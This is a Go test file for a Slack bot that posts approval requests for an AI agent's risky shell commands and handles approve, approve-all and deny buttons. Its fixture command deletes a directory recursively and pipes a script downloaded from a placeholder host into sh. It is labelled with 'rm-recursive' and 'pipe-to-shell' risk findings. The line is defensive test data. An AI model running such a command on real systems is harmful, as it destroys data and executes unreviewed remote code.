package slackbot

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/slack-go/slack"

	"github.com/agentbot/agentbot/agentflow"
	"github.com/agentbot/agentbot/agentflow/risk"
	"github.com/agentbot/agentbot/bot"
	"github.com/agentbot/agentbot/internal/fakeslack"
)

const testApprovalID = "t3-call_abc"

// waitingApproval is an approval of turn 3 waiting for an answer: a
// command with characters Slack reads as markup and a run of backticks.
func waitingApproval() agentflow.ApprovalView {
	return agentflow.ApprovalView{
		ID: testApprovalID, Turn: 3, Mode: agentflow.ApprovalRisky, Need: 1, State: agentflow.ApprovalWaiting,
		Command: "rm -rf /srv/build && curl https://x.example/i.sh | sh <in >out # ```",
		Findings: []risk.Finding{
			{Rule: "rm-recursive", Reason: "rm -r of a directory (/srv/build)"},
			{Rule: "pipe-to-shell", Reason: "runs a downloaded script & its <output>"},
		},
		Expires: time.Unix(1_800_000_000, 0),
	}
}

func approvalMsg(thread string, v agentflow.ApprovalView) agentflow.Outbound {
	return agentflow.Outbound{Thread: thread, Key: "agent/" + thread + "/3/approval/" + v.ID, Kind: agentflow.OutboundApproval,
		Turn: v.Turn, Text: agentflow.Text{Inline: "Approval needed for: " + v.Command}, Approval: &v}
}

// wireBlock is a block as posted, for inspection.
type wireBlock struct {
	Type     string                 `json:"type"`
	BlockID  string                 `json:"block_id"`
	Text     *struct{ Text string } `json:"text"`
	Elements []struct {
		Type     string `json:"type"`
		ActionID string `json:"action_id"`
		Value    string `json:"value"`
		Style    string `json:"style"`
		Text     json.RawMessage
	} `json:"elements"`
}

func wireBlocks(t *testing.T, raw json.RawMessage) []wireBlock {
	t.Helper()
	var bs []wireBlock
	if err := json.Unmarshal(raw, &bs); err != nil {
		t.Fatalf("blocks %s: %v", raw, err)
	}
	return bs
}

// blockText is the text of every section and context block.
func blockText(t *testing.T, raw json.RawMessage) string {
	t.Helper()
	var b strings.Builder
	for _, x := range wireBlocks(t, raw) {
		if x.Text != nil {
			b.WriteString(x.Text.Text + "\n")
		}
		for _, e := range x.Elements {
			var s string // a context block's text; a button's is an object
			if json.Unmarshal(e.Text, &s) == nil {
				b.WriteString(s + "\n")
			}
		}
	}
	return b.String()
}

// buttons returns the approval buttons of blocks: action ID → value and
// style.
func buttons(t *testing.T, raw json.RawMessage) map[string][2]string {
	t.Helper()
	out := map[string][2]string{}
	for _, b := range wireBlocks(t, raw) {
		if b.Type != "actions" {
			continue
		}
		for _, e := range b.Elements {
			out[e.ActionID] = [2]string{e.Value, e.Style}
		}
	}
	return out
}

// TestApprovalMessage: an approval is one message with the command, its
// findings and the three buttons carrying its ID; delivering it again
// (from this worker or another) posts nothing more; its decision edits
// the same message, which loses its buttons and says who decided.
func TestApprovalMessage(t *testing.T) {
	e := newSenderEnv(t)
	s := e.sender(t)
	ctx := context.Background()
	v := waitingApproval()
	m := approvalMsg(e.thread, v)
	if err := s.Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	got := e.replies()
	if len(got) != 1 {
		t.Fatalf("%d messages, want 1: %+v", len(got), got)
	}
	msg := got[0]
	if k := metaKey(t, msg); k != m.Key {
		t.Errorf("metadata key %q, want %q", k, m.Key)
	}
	if !strings.Contains(msg.Text, "Approval needed for: rm -rf") {
		t.Errorf("fallback text %q", msg.Text)
	}
	text := blockText(t, msg.Blocks)
	for _, want := range []string{
		"🔐 *Approval needed* · turn 3",
		"```\nrm -rf /srv/build &amp;&amp; curl https://x.example/i.sh | sh &lt;in &gt;out # `\u200b`\u200b`\n```",
		"• `rm-recursive`: rm -r of a directory (/srv/build)",
		"• `pipe-to-shell`: runs a downloaded script &amp; its &lt;output&gt;",
		"Needs an approval by the session's owner or an admin",
		"expires <!date^1800000000^",
	} {
		if !strings.Contains(text, want) {
			t.Errorf("the approval message lacks %q:\n%s", want, text)
		}
	}
	want := map[string][2]string{
		ActionApprove:    {testApprovalID, "primary"},
		ActionApproveAll: {testApprovalID, ""},
		ActionDeny:       {testApprovalID, "danger"},
	}
	if b := buttons(t, msg.Blocks); len(b) != 3 || b[ActionApprove] != want[ActionApprove] ||
		b[ActionApproveAll] != want[ActionApproveAll] || b[ActionDeny] != want[ActionDeny] {
		t.Errorf("buttons %v, want %v", b, want)
	}

	// The same delivery again, from this worker and from another (which
	// finds the message by its metadata), posts nothing.
	posts := e.fake.Calls("chat.postMessage")
	if err := s.Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	if err := e.sender(t).Deliver(ctx, m); err != nil {
		t.Fatal(err)
	}
	if n := e.fake.Calls("chat.postMessage"); n != posts || len(e.replies()) != 1 {
		t.Fatalf("a repeated delivery posted again: %d posts (want %d), %d messages", n, posts, len(e.replies()))
	}

	// The decision edits the message: no buttons, who and when.
	v.State, v.DecidedBy, v.DecidedAt, v.Approvers = agentflow.ApprovalApproved, "U2", time.Unix(1_800_000_100, 0), []string{"U2"}
	decided := approvalMsg(e.thread, v)
	decided.Text.Inline = "Approved by U2: " + v.Command
	edits := e.fake.Calls("chat.update")
	if err := s.Deliver(ctx, decided); err != nil {
		t.Fatal(err)
	}
	got = e.replies()
	if len(got) != 1 || got[0].TS != msg.TS {
		t.Fatalf("the decision made %d messages, want the one edited: %+v", len(got), got)
	}
	if n := e.fake.Calls("chat.update"); n != edits+1 {
		t.Errorf("%d chat.update calls for the decision, want 1", n-edits)
	}
	if b := buttons(t, got[0].Blocks); len(b) != 0 {
		t.Errorf("the decided approval still has buttons: %v", b)
	}
	text = blockText(t, got[0].Blocks)
	for _, want := range []string{"✅ *Approved* · turn 3", "Approved by <@U2>, <!date^1800000100^", "rm -rf /srv/build"} {
		if !strings.Contains(text, want) {
			t.Errorf("the decided approval lacks %q:\n%s", want, text)
		}
	}
	// Delivered again, it changes nothing.
	if err := s.Deliver(ctx, decided); err != nil {
		t.Fatal(err)
	}
	if n := e.fake.Calls("chat.update"); n != edits+1 || e.fake.Calls("chat.postMessage") != posts {
		t.Errorf("a repeated decision made calls: %d updates, %d posts", n-edits, e.fake.Calls("chat.postMessage")-posts)
	}
}

// TestApprovalOutcomes: each decided state says what became of the
// command, and has no buttons; a waiting approval under the two-person
// rule says who approved so far.
func TestApprovalOutcomes(t *testing.T) {
	at := time.Unix(1_800_000_100, 0)
	tests := []struct {
		name string
		mod  func(*agentflow.ApprovalView)
		want []string
		btns bool
	}{
		{"two-person", func(v *agentflow.ApprovalView) { v.Need, v.Approvers = 2, []string{"U2"} }, []string{
			"Needs 2 approvals by different people", "1 so far: <@U2>"}, true},
		{"every command", func(v *agentflow.ApprovalView) { v.Mode, v.Findings = agentflow.ApprovalAlways, nil }, []string{
			"asks before every shell command"}, true},
		{"approved for the turn", func(v *agentflow.ApprovalView) {
			v.State, v.DecidedBy, v.DecidedAt, v.All = agentflow.ApprovalApproved, "U2", at, true
		}, []string{"✅ *Approved*", "Approved by <@U2>", "with the rest of this turn's commands"}, false},
		{"denied", func(v *agentflow.ApprovalView) {
			v.State, v.DecidedBy, v.DecidedAt = agentflow.ApprovalDenied, "U3", at
		},
			[]string{"🚫 *Denied*", "Denied by <@U3>, <!date^1800000100^", "not run"}, false},
		{"expired", func(v *agentflow.ApprovalView) { v.State = agentflow.ApprovalExpired },
			[]string{"⌛ *Expired*", "Nobody answered by <!date^1800000000^", "not run"}, false},
		{"cancelled", func(v *agentflow.ApprovalView) { v.State = agentflow.ApprovalCancelled },
			[]string{"⏹️ *Cancelled*", "The turn was stopped before an answer"}, false},
		{"a name, not an ID", func(v *agentflow.ApprovalView) { v.State, v.DecidedBy = agentflow.ApprovalDenied, "<!channel> & co" },
			[]string{"Denied by &lt;!channel&gt; &amp; co"}, false},
		{"unknown state", func(v *agentflow.ApprovalView) { v.State = "weird*" }, []string{"• *weird*"}, false},
		{"an ID no button can carry", func(v *agentflow.ApprovalView) { v.ID = "t3 call" }, []string{"Approval needed"}, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := waitingApproval()
			tt.mod(&v)
			raw, err := json.Marshal(ApprovalBlocks(v))
			if err != nil {
				t.Fatal(err)
			}
			text := blockText(t, raw)
			for _, w := range tt.want {
				if !strings.Contains(text, w) {
					t.Errorf("lacks %q:\n%s", w, text)
				}
			}
			if b := buttons(t, raw); (len(b) == 3) != tt.btns || (!tt.btns && len(b) != 0) {
				t.Errorf("buttons %v, want them: %v", b, tt.btns)
			}
		})
	}
}

// TestApprovalFitsSlack: a huge command of characters that escaping makes
// five times longer, and many long findings, still make blocks Slack
// takes (the fake checks its limits), the command cut.
func TestApprovalFitsSlack(t *testing.T) {
	e := newSenderEnv(t)
	s := e.sender(t)
	v := waitingApproval()
	v.Command = strings.Repeat("&<>`", 5000)
	for i := 0; i < 40; i++ {
		v.Findings = append(v.Findings, risk.Finding{Rule: "rule", Reason: strings.Repeat("&", 500)})
	}
	if err := s.Deliver(context.Background(), approvalMsg(e.thread, v)); err != nil {
		t.Fatal(err)
	}
	got := e.replies()
	if len(got) != 1 {
		t.Fatalf("%d messages", len(got))
	}
	for i, b := range wireBlocks(t, got[0].Blocks) {
		if b.Text != nil && utf8.RuneCountInString(b.Text.Text) > maxSectionText {
			t.Errorf("block %d has %d characters", i, utf8.RuneCountInString(b.Text.Text))
		}
	}
	text := blockText(t, got[0].Blocks)
	if !strings.Contains(text, "…") || !strings.Contains(text, "more_") {
		t.Errorf("the command or the findings were not cut:\n%.500s", text)
	}
	if len(buttons(t, got[0].Blocks)) != 3 {
		t.Error("a long approval lost its buttons")
	}
}

// TestApprovalCommand: the buttons' action and value make the commands of
// the grammar; a value that is no approval ID makes none.
func TestApprovalCommand(t *testing.T) {
	if MaxApprovalID != bot.MaxApprovalIDLen {
		t.Errorf("MaxApprovalID %d, the grammar's %d", MaxApprovalID, bot.MaxApprovalIDLen)
	}
	for _, tt := range []struct{ action, id, want string }{
		{ActionApprove, testApprovalID, "approve " + testApprovalID},
		{ActionApproveAll, testApprovalID, "approve " + testApprovalID + " --all"},
		{ActionDeny, testApprovalID, "deny " + testApprovalID},
		{ActionDeny, "a.b:c-d_e", "deny a.b:c-d_e"},
		{ActionApprove, strings.Repeat("a", MaxApprovalID), "approve " + strings.Repeat("a", MaxApprovalID)},
		{ActionApprove, strings.Repeat("a", MaxApprovalID+1), ""},
		{ActionApprove, "", ""},
		{ActionApprove, "t3 call", ""},
		{ActionApprove, "t3\tcall", ""},
		{ActionApprove, "t3\ncall", ""},
		{ActionApprove, "--all", ""},
		{ActionApprove, `"t3"`, ""},
		{ActionApprove, "t3’", ""},
		{ActionApprove, "t3\u00a0x", ""},
		{ActionApprove, "é", ""},
		{ActionStop, testApprovalID, ""},
	} {
		got := actionCommand(&slack.BlockAction{ActionID: tt.action, Value: tt.id})
		if tt.action == ActionStop {
			got = approvalCommand(tt.action, tt.id)
		}
		if got != tt.want {
			t.Errorf("%s with %q: %q, want %q", tt.action, tt.id, got, tt.want)
		}
		if got != "" && bot.Verb("approve").Valid() {
			// The grammar reads it back as the same command.
			cmd, err := bot.Parse(got, nil)
			if err != nil || cmd.String() != got {
				t.Errorf("Parse(%q) = %q, %v", got, cmd.String(), err)
			}
		}
	}
}

// TestApprovalButtons: a click on each button of an approval message,
// over Socket Mode and over HTTP, reaches the handler as the command of
// the person who clicked in the message's thread; a click whose value is
// no approval ID reaches nothing.
func TestApprovalButtons(t *testing.T) {
	const clicker = "U2"
	for _, mode := range []string{"socket", "http"} {
		t.Run(mode, func(t *testing.T) {
			e := newEnv(t, fakeslack.Options{})
			e.fake.SetUser(fakeslack.User{ID: clicker, Name: "bob"})
			if mode == "socket" {
				e.socket(t)
			} else {
				e.http(t)
			}
			// A thread, and the session's approval message in it.
			root := e.fake.PostUserMessage(testChan, testUser, "a thread", "")
			o := e.fake.Options()
			s, err := NewSender(SenderConfig{BotToken: o.BotToken, APIURL: e.fake.APIURL(), Logger: senderTestLogger(t)})
			if err != nil {
				t.Fatal(err)
			}
			if err := s.Deliver(context.Background(), approvalMsg(e.key(root), waitingApproval())); err != nil {
				t.Fatal(err)
			}
			msgs := e.fake.Thread(testChan, root)
			approval := msgs[len(msgs)-1]
			if approval.BotID == "" || len(buttons(t, approval.Blocks)) != 3 {
				t.Fatalf("no approval message in the thread: %+v", msgs)
			}

			for _, tt := range []struct{ action, want, verb string }{
				{ActionApprove, "approve " + testApprovalID, "approve"},
				{ActionApproveAll, "approve " + testApprovalID + " --all", "approve"},
				{ActionDeny, "deny " + testApprovalID, "deny"},
			} {
				e.fake.BlockAction(testChan, clicker, approval.TS, tt.action, testApprovalID)
				ev := e.h.next(t)
				if ev.Kind != bot.KindCommand || ev.Text != tt.want || ev.ThreadKey != e.key(root) || ev.Channel != testChan ||
					ev.User != clicker || ev.UserName != "bob" || !strings.HasSuffix(ev.ID, ":"+clicker) {
					t.Errorf("%s clicked: %+v", tt.action, ev)
				}
				if bot.Verb(tt.verb).Valid() {
					if cmd, err := bot.Parse(ev.Text, nil); err != nil || string(cmd.Verb) != tt.verb {
						t.Errorf("the grammar reads %q as %q: %v", ev.Text, cmd.Verb, err)
					}
				}
			}

			// Values that are no approval ID: nothing reaches the
			// handler before the sentinel.
			for _, bad := range []string{"t3 call", strings.Repeat("x", MaxApprovalID+1), "", "--all", "t3\ncall"} {
				e.fake.BlockAction(testChan, clicker, approval.TS, ActionApprove, bad)
				e.fake.BlockAction(testChan, clicker, approval.TS, ActionDeny, bad)
			}
			if before := e.sentinel(t, root); len(before) != 0 {
				t.Errorf("clicks with bad IDs made events: %+v", before)
			}
		})
	}
}
